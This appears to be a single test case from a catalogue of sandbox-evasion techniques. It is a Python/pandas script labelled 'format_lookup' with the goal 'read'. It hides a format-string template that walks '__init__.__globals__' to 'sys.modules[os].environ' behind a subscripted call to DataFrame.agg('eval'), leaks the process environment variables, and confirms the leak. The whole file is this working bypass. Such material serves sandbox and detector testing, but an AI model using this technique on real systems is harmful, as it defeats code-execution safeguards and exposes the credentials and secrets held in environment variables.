# class: format_lookup
# technique: [frame.agg][0]('eval', 0, expr) (a subscripted bound method, not a method-call node): the expression formats the template with @t.format(@o[0])
# goal: read
import numpy as np
import pandas as pd

u = "_" * 2
template = "{0." + u + "init" + u + "." + u + "globals" + u + "[sys].modules[os].environ}"

frame = pd.DataFrame({"x": np.arange(2)})
leak = [frame.agg][0]("eval", 0, "@t.format(@o[0])", local_dict={"t": template, "o": [np.vectorize]})
if not str(leak).startswith("environ("):
    raise RuntimeError("no environment")
df = pd.DataFrame({"environ": [leak]})
